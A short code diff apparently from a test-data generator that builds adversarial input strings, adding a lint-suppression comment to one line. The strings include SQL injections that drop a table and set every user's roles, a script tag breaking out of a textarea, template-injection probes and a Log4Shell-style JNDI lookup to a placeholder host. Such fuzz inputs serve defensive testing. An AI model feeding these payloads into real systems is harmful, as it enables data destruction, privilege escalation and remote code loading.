@@ -108,7 +108,7 @@ def text(maker: Maker) -> str:
         f"{word}{'q' * (500 - len(word))}",
         f"{word} {EMOJI * 9}",
         f"'; DROP TABLE texts; -- {word}",
-        f'" OR 1=1; UPDATE people SET roles = 1 -- {word}',
+        f'" OR 1=1; UPDATE people SET roles = 1 -- {word}',  # noqa: S608 - nobody runs it
         f"{MARKUP}{word}><script>{word}</script></textarea>",
         f"{{{{ 7*7 }}}}{{% for x in {word} %}}${{7*7}}#{{7*7}}<%= {word} %>",
         f"${{jndi:ldap://{word}.example/a}} %s %n %(x)s {{0.__class__}} {{}}",
